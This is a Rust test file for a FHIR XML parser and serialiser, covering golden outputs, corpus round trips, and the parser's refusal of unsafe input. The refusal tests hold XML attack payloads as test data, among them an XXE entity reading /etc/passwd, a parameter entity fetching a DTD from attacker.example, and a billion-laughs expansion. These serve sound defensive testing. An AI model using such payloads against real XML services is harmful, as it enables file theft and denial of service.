//! FHIR XML (`throughcare::fhir::xml`): golden serialisations, the round trip over every example
//! instance of the ITK3 and GP Connect STU3 corpus (and the comparison with the corpus's JSON
//! copies), and the refusals of the parser (DOCTYPE, entities, depth, size, unknown elements).
//!
//! Golden cases are in `tests/golden-xml/<case>/`: `input.json` (or the translate golden named in
//! [`GOLDEN`]) and `expected.xml`. `UPDATE_GOLDEN=1 cargo test --test fhir_xml` rewrites the
//! expected files from the current output; review the diff before committing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};

use quick_xml::events::Event;
use quick_xml::reader::Reader;
use serde_json::Value;
use throughcare::fhir::xml::{FhirVersion, XmlError, XmlLimits, from_xml, from_xml_with, to_xml};

const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");
const CORPUS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/corpus");

/// Golden cases: (case folder under tests/golden-xml, input JSON relative to the repo).
const GOLDEN: &[(&str, &str)] = &[
    (
        "release-summary",
        "tests/golden/prison-to-gp-connect-stu3/release-summary/expected.json",
    ),
    ("xml-rules", "tests/golden-xml/xml-rules/input.json"),
];

/// The conformance resources of the corpus folders, left out of the instance round trip.
const CONFORMANCE: &[&str] = &[
    "StructureDefinition",
    "ValueSet",
    "CodeSystem",
    "ConceptMap",
    "MessageDefinition",
    "OperationDefinition",
    "NamingSystem",
    "CapabilityStatement",
    "SearchParameter",
];

/// Corpus examples whose source puts elements out of definition order (the serialiser writes
/// them in order, so only the set of elements is compared for these).
const SOURCE_ORDER_ERRORS: &[(&str, &str)] = &[
    (
        "example--gpc-update-record--prsb--clinical-summary.xml",
        "ClinicalImpression.meta before id",
    ),
    (
        "example--gpc-update-record--prsb--plan-requested-actions.xml",
        "ClinicalImpression.identifier before meta",
    ),
];

fn read_json(path: &Path) -> Value {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_slice(&bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn golden_xml_of_the_sample_documents() {
    let update = std::env::var("UPDATE_GOLDEN").is_ok();
    for (case, input) in GOLDEN {
        let json = read_json(&Path::new(MANIFEST).join(input));
        let xml = to_xml(&json, FhirVersion::Stu3).unwrap_or_else(|e| panic!("{case}: {e}"));
        let expected = Path::new(MANIFEST)
            .join("tests/golden-xml")
            .join(case)
            .join("expected.xml");
        if update {
            std::fs::create_dir_all(expected.parent().unwrap()).unwrap();
            std::fs::write(&expected, &xml).unwrap();
        }
        let want = std::fs::read_to_string(&expected)
            .unwrap_or_else(|e| panic!("{}: {e} (UPDATE_GOLDEN=1 writes it)", expected.display()));
        assert_eq!(
            xml,
            want,
            "{case}: the XML differs from {}",
            expected.display()
        );
        let back = from_xml(xml.as_bytes(), FhirVersion::Stu3).unwrap();
        assert_eq!(
            back, json,
            "{case}: the XML does not read back as the input"
        );
    }
}

/// The example instances (not conformance resources) of a corpus folder, top level only.
fn instances(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .filter_map(Result::ok)
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|x| x == "xml"))
        .filter(|p| {
            let text = std::fs::read_to_string(p).unwrap();
            !CONFORMANCE.contains(&root_name(&text).as_str())
        })
        .collect();
    files.sort();
    files
}

fn root_name(xml: &str) -> String {
    let mut reader = Reader::from_str(xml);
    loop {
        match reader.read_event().unwrap() {
            Event::Start(e) | Event::Empty(e) => return e.local_name().into_inner().to_string(),
            Event::Eof => return String::new(),
            _ => {}
        }
    }
}

/// The element structure of an XML document, for comparing the serialiser's element order and
/// attributes with the source's: one line per start tag (depth, local name, attributes other
/// than namespace declarations and `xsi:`, sorted), and the narrative's markup as one line with
/// its whitespace collapsed. Comments, whitespace and the XML declaration are left out.
fn structure(xml: &str) -> Vec<String> {
    let mut reader = Reader::from_str(xml);
    let mut out = Vec::new();
    let mut depth = 0usize;
    loop {
        let start = usize::try_from(reader.buffer_position()).unwrap();
        let event = reader.read_event().unwrap();
        match event {
            Event::Start(ref e) | Event::Empty(ref e) => {
                let name = e.local_name().into_inner().to_string();
                if name == "div" {
                    let end = if matches!(event, Event::Start(_)) {
                        reader.read_to_end(e.to_end().name()).unwrap();
                        usize::try_from(reader.buffer_position()).unwrap()
                    } else {
                        usize::try_from(reader.buffer_position()).unwrap()
                    };
                    let markup: Vec<&str> = xml[start..end].split_whitespace().collect();
                    out.push(format!("{depth} div {}", markup.join(" ")));
                    continue;
                }
                let mut attrs: Vec<String> = e
                    .attributes()
                    .map(Result::unwrap)
                    .filter(|a| {
                        a.key.as_namespace_binding().is_none()
                            && a.key.prefix().is_none_or(|p| p.into_inner() != "xsi")
                    })
                    .map(|a| {
                        let v = a
                            .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                            .unwrap();
                        format!("{}={v:?}", a.key.0)
                    })
                    .collect();
                attrs.sort();
                out.push(format!("{depth} {name} {}", attrs.join(" ")));
                if matches!(event, Event::Start(_)) {
                    depth += 1;
                }
            }
            Event::End(_) => depth -= 1,
            Event::Eof => break,
            _ => {}
        }
    }
    out
}

/// Every example instance of the two STU3 corpus folders; `None` when the corpus is absent
/// (outside CI only).
fn corpus_instances() -> Option<Vec<PathBuf>> {
    let corpus = Path::new(CORPUS);
    if !corpus.is_dir() {
        assert!(
            std::env::var("CI").is_err(),
            "{CORPUS} is absent: in CI the FHIR XML corpus round trip must run"
        );
        eprintln!("SKIPPED: {CORPUS} is absent; the FHIR XML corpus round trip did not run");
        return None;
    }
    let mut files = instances(&corpus.join("itk3/Examples"));
    files.extend(instances(&corpus.join("gpconnect-stu3-simplifier")));
    Some(files)
}

#[test]
fn every_stu3_example_instance_in_the_corpus_round_trips_through_xml() {
    let Some(files) = corpus_instances() else {
        return;
    };
    // 41 ITK3 examples and 9 GP Connect examples.
    assert!(files.len() >= 50, "only {} corpus instances", files.len());
    let mut failures = Vec::new();
    for path in &files {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        let source = std::fs::read_to_string(path).unwrap();
        let first = match from_xml(source.as_bytes(), FhirVersion::Stu3) {
            Ok(v) => v,
            Err(e) => {
                failures.push(format!("{name}: parse: {e}"));
                continue;
            }
        };
        let xml = match to_xml(&first, FhirVersion::Stu3) {
            Ok(x) => x,
            Err(e) => {
                failures.push(format!("{name}: serialise: {e}"));
                continue;
            }
        };
        let second = match from_xml(xml.as_bytes(), FhirVersion::Stu3) {
            Ok(v) => v,
            Err(e) => {
                failures.push(format!("{name}: parse the serialised XML: {e}"));
                continue;
            }
        };
        if first != second {
            failures.push(format!("{name}: the second parse differs from the first"));
        }
        // The serialiser writes the elements in the order (and with the attributes) of the
        // source, which follows the StructureDefinitions: this checks the order tables.
        let (mut want, mut got) = (structure(&source), structure(&xml));
        if SOURCE_ORDER_ERRORS.iter().any(|(file, _)| *file == name) {
            want.sort();
            got.sort();
            assert_ne!(
                structure(&source),
                want,
                "{name} is in order now: drop it from SOURCE_ORDER_ERRORS"
            );
        }
        if let Some(i) = (0..want.len().max(got.len())).find(|i| want.get(*i) != got.get(*i)) {
            failures.push(format!(
                "{name}: element {i} differs from the source: source {:?}, serialised {:?}",
                want.get(i),
                got.get(i)
            ));
        }
    }
    eprintln!("FHIR XML round trip: {} corpus instances", files.len());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_stu3_examples_read_as_their_json_copies_in_the_corpus() {
    let Some(files) = corpus_instances() else {
        return;
    };
    let json_dir = Path::new(CORPUS).join("gpconnect-stu3-json");
    let mut compared = 0;
    let mut failures = Vec::new();
    for path in &files {
        let stem = path.file_stem().unwrap().to_string_lossy().to_string();
        let copy = json_dir.join(format!("{stem}.json"));
        if !copy.is_file() {
            continue;
        }
        compared += 1;
        let want = read_json(&copy);
        let got = from_xml(&std::fs::read(path).unwrap(), FhirVersion::Stu3).unwrap();
        if got != want {
            failures.push(format!("{stem}: {}", first_difference("$", &want, &got)));
        }
    }
    eprintln!("FHIR XML against the corpus JSON copies: {compared} files");
    assert!(compared >= 9, "only {compared} JSON copies found");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Where two JSON trees first differ.
fn first_difference(path: &str, want: &Value, got: &Value) -> String {
    match (want, got) {
        (Value::Object(a), Value::Object(b)) => {
            for (k, v) in a {
                match b.get(k) {
                    Some(w) if w != v => return first_difference(&format!("{path}.{k}"), v, w),
                    None => return format!("{path}.{k} missing"),
                    _ => {}
                }
            }
            for k in b.keys() {
                if !a.contains_key(k) {
                    return format!("{path}.{k} not expected");
                }
            }
            format!("{path}: ?")
        }
        (Value::Array(a), Value::Array(b)) if a.len() == b.len() => {
            for (i, (v, w)) in a.iter().zip(b).enumerate() {
                if v != w {
                    return first_difference(&format!("{path}[{i}]"), v, w);
                }
            }
            format!("{path}: ?")
        }
        _ => format!("{path}: expected {want}, got {got}"),
    }
}

/// Every XML file under `dir`, recursively.
fn all_xml(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().filter_map(Result::ok) {
        let path = entry.path();
        if path.is_dir() {
            all_xml(&path, out);
        } else if path.extension().is_some_and(|x| x == "xml") {
            out.push(path);
        }
    }
}

/// Beyond the instances: the conformance resources of the GP Connect folder (profiles, value
/// sets, code systems, operations) exercise most of the STU3 tables (ElementDefinition's 40-odd
/// choice types), and their JSON copies were made by another converter from the StructureDefinitions.
#[test]
fn the_gp_connect_conformance_resources_read_as_their_json_copies_and_round_trip() {
    if corpus_instances().is_none() {
        return;
    }
    let xml_dir = Path::new(CORPUS).join("gpconnect-stu3-simplifier");
    let json_dir = Path::new(CORPUS).join("gpconnect-stu3-json");
    let mut files = Vec::new();
    all_xml(&xml_dir, &mut files);
    files.sort();
    let mut compared = 0;
    let mut failures = Vec::new();
    for path in &files {
        let rel = path.strip_prefix(&xml_dir).unwrap().with_extension("json");
        let copy = json_dir.join(&rel);
        let name = rel.display().to_string();
        let source = std::fs::read(path).unwrap();
        let got = match from_xml(&source, FhirVersion::Stu3) {
            Ok(v) => v,
            // The one file in the wrong namespace (`http://nhs/fhir`, see the corpus's
            // SOURCES.md) is not FHIR XML, and is refused as such.
            Err(XmlError::Namespace { found, .. })
                if name == "ValueSet-CompositionSectionCode.json" && found == "http://nhs/fhir" =>
            {
                continue;
            }
            Err(e) => {
                failures.push(format!("{name}: {e}"));
                continue;
            }
        };
        if copy.is_file() {
            compared += 1;
            let want = read_json(&copy);
            if got != want {
                failures.push(format!("{name}: {}", first_difference("$", &want, &got)));
            }
        }
        let again =
            to_xml(&got, FhirVersion::Stu3).and_then(|x| from_xml(x.as_bytes(), FhirVersion::Stu3));
        if again.as_ref() != Ok(&got) {
            failures.push(format!("{name}: round trip: {:?}", again.err()));
        }
    }
    eprintln!(
        "FHIR XML: {} GP Connect files, {compared} against JSON copies",
        files.len()
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

const PATIENT: &str =
    r#"<Patient xmlns="http://hl7.org/fhir"><id value="p"/><gender value="male"/></Patient>"#;

fn refused(xml: &str) -> XmlError {
    match from_xml(xml.as_bytes(), FhirVersion::Stu3) {
        Ok(v) => panic!("accepted: {v}"),
        Err(e) => e,
    }
}

#[test]
fn a_doctype_is_refused_and_with_it_every_entity_declaration() {
    let cases = [
        // A plain DOCTYPE.
        format!("<!DOCTYPE Patient>{PATIENT}"),
        // An internal entity used in a value.
        r#"<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY name "x">]><Patient xmlns="http://hl7.org/fhir"><id value="&name;"/></Patient>"#.to_string(),
        // An external entity (XXE).
        r#"<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Patient xmlns="http://hl7.org/fhir"><id value="&xxe;"/></Patient>"#.to_string(),
        // A parameter entity fetching an external DTD.
        r#"<!DOCTYPE Patient [<!ENTITY % dtd SYSTEM "http://attacker.example/x.dtd"> %dtd;]><Patient xmlns="http://hl7.org/fhir"/>"#.to_string(),
        // Billion laughs.
        format!(
            r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">{}]><Patient xmlns="http://hl7.org/fhir"><id value="&lol9;"/></Patient>"#,
            (1..10)
                .map(|i| format!(r#"<!ENTITY lol{i} "{}">"#, format!("&lol{};", if i == 1 { String::new() } else { (i - 1).to_string() }).repeat(10)))
                .collect::<String>()
        ),
        // A DOCTYPE after the root is refused too.
        format!("{PATIENT}<!DOCTYPE Patient>"),
    ];
    for xml in &cases {
        let e = refused(xml);
        assert_eq!(e, XmlError::Doctype, "{xml}");
        assert!(e.to_string().contains("DOCTYPE"), "{e}");
    }
}

#[test]
fn an_undefined_entity_reference_is_refused_with_its_name_and_place() {
    let e = refused(
        r#"<Patient xmlns="http://hl7.org/fhir"><id value="p"/><gender value="&xxe;"/></Patient>"#,
    );
    assert!(
        matches!(&e, XmlError::Entity { path, name } if path == "Patient.gender" && name == "xxe"),
        "{e:?}"
    );
    // In the narrative too.
    let e = refused(
        r#"<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">&nbsp;</div></text></Patient>"#,
    );
    assert!(
        matches!(&e, XmlError::Entity { name, .. } if name == "nbsp"),
        "{e:?}"
    );
    // The five XML entities and character references are read.
    let v = from_xml(
        r#"<Patient xmlns="http://hl7.org/fhir"><id value="a&amp;b&lt;&gt;&quot;&apos;&#10;&#x41;"/></Patient>"#.as_bytes(),
        FhirVersion::Stu3,
    )
    .unwrap();
    assert_eq!(v["id"], "a&b<>\"'\nA");
}

#[test]
fn nesting_deeper_than_the_limit_is_refused() {
    let deep = |n: usize| {
        format!(
            r#"<Patient xmlns="http://hl7.org/fhir">{}{}</Patient>"#,
            r#"<extension url="x">"#.repeat(n),
            "</extension>".repeat(n)
        )
    };
    // 63 extensions and the root: depth 64, accepted.
    from_xml(deep(63).as_bytes(), FhirVersion::Stu3).unwrap();
    let e = refused(&deep(64));
    assert!(matches!(e, XmlError::TooDeep { limit: 64, .. }), "{e:?}");
    assert!(e.to_string().contains("deeper than the limit of 64"), "{e}");
    // 100,000 levels (3 MB) fail at the limit, without exhausting the stack.
    let e = refused(&deep(100_000));
    assert!(matches!(e, XmlError::TooDeep { .. }), "{e:?}");
    // The limit holds inside the narrative.
    let xhtml = format!(
        r#"<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml">{}{}</div></text></Patient>"#,
        "<span>".repeat(70),
        "</span>".repeat(70)
    );
    assert!(matches!(refused(&xhtml), XmlError::TooDeep { .. }));
    // And is configurable.
    let limits = XmlLimits {
        max_depth: 3,
        ..XmlLimits::default()
    };
    let e = from_xml_with(deep(3).as_bytes(), FhirVersion::Stu3, &limits).unwrap_err();
    assert!(matches!(e, XmlError::TooDeep { limit: 3, .. }), "{e:?}");
}

#[test]
fn input_over_the_size_limit_is_refused_before_it_is_read() {
    let limits = XmlLimits::default();
    assert_eq!(limits.max_bytes, 10 * 1024 * 1024);
    let mut big = PATIENT.as_bytes().to_vec();
    big.resize(limits.max_bytes + 1, b' ');
    let e = from_xml(&big, FhirVersion::Stu3).unwrap_err();
    assert_eq!(
        e,
        XmlError::TooLarge {
            size: limits.max_bytes + 1,
            limit: limits.max_bytes
        }
    );
    // Exactly at the limit (whitespace after the root) is read.
    big.truncate(limits.max_bytes);
    from_xml(&big, FhirVersion::Stu3).unwrap();
    let small = XmlLimits {
        max_bytes: 10,
        ..XmlLimits::default()
    };
    let e = from_xml_with(PATIENT.as_bytes(), FhirVersion::Stu3, &small).unwrap_err();
    assert!(e.to_string().contains("over the limit of 10"), "{e}");
}

#[test]
fn unknown_and_misplaced_content_is_refused_with_its_path() {
    let e = refused(
        r#"<Bundle xmlns="http://hl7.org/fhir"><type value="message"/><entry><resource><MessageHeader><event><system value="s"/><colour value="red"/></event></MessageHeader></resource></entry></Bundle>"#,
    );
    assert_eq!(
        e.to_string(),
        "Bundle.entry[0].resource.MessageHeader.event: colour is not a FHIR Stu3 element here"
    );
    let cases: &[(&str, &str)] = &[
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><gender value="male"/><gender value="female"/></Patient>"#,
            "Patient: gender does not repeat, but is given more than once",
        ),
        (
            r#"<Patientx xmlns="http://hl7.org/fhir"/>"#,
            "Patientx: Patientx is not a Stu3 resource type",
        ),
        (
            r#"<Patient><id value="p"/></Patient>"#,
            "Patient: element <Patient> is not in the FHIR namespace (no namespace)",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><gender value="male" colour="red"/></Patient>"#,
            "Patient.gender: unexpected attribute colour",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><gender value="male">text</gender></Patient>"#,
            "Patient.gender: unexpected text content",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><active value="yes"/></Patient>"#,
            "Patient.active: \"yes\" is not a valid boolean",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><multipleBirthInteger value="1.5"/></Patient>"#,
            "Patient.multipleBirthInteger: \"1.5\" is not a valid integer",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><gender/></Patient>"#,
            "Patient.gender: neither a value nor an extension",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><id value="p"/></Patient><Patient xmlns="http://hl7.org/fhir"/>"#,
            "$: content after the root element",
        ),
        (
            r#"<?xml version="1.0" encoding="ISO-8859-1"?><Patient xmlns="http://hl7.org/fhir"/>"#,
            "the document is not UTF-8 or declares another encoding: declared ISO-8859-1",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><name><id value="n"/></name></Patient>"#,
            "Patient.name[0]: id is not a FHIR Stu3 element here",
        ),
        (
            r#"<Patient xmlns="http://hl7.org/fhir"><text><div xmlns="http://www.w3.org/1999/xhtml"><p></div></text></Patient>"#,
            "",
        ),
    ];
    for (xml, message) in cases {
        let e = refused(xml);
        if message.is_empty() {
            assert!(matches!(e, XmlError::Syntax { .. }), "{xml}: {e:?}");
        } else {
            assert_eq!(e.to_string(), *message, "{xml}");
        }
    }
    // Not UTF-8 at all.
    let e = from_xml(
        b"<Patient xmlns=\"http://hl7.org/fhir\"><id value=\"\xff\"/></Patient>",
        FhirVersion::Stu3,
    )
    .unwrap_err();
    assert!(matches!(e, XmlError::Encoding(_)), "{e:?}");
}

#[test]
fn r4_documents_use_the_r4_tables() {
    // R4 moved MessageHeader.event to event[x] and added Patient.link; STU3 has no eventCoding.
    let xml = r#"<MessageHeader xmlns="http://hl7.org/fhir"><eventCoding><code value="x"/></eventCoding><source><endpoint value="e"/></source></MessageHeader>"#;
    let v = from_xml(xml.as_bytes(), FhirVersion::R4).unwrap();
    assert_eq!(v["eventCoding"]["code"], "x");
    assert!(matches!(
        from_xml(xml.as_bytes(), FhirVersion::Stu3),
        Err(XmlError::UnknownElement { .. })
    ));
    let back = to_xml(&v, FhirVersion::R4).unwrap();
    assert_eq!(from_xml(back.as_bytes(), FhirVersion::R4).unwrap(), v);
}
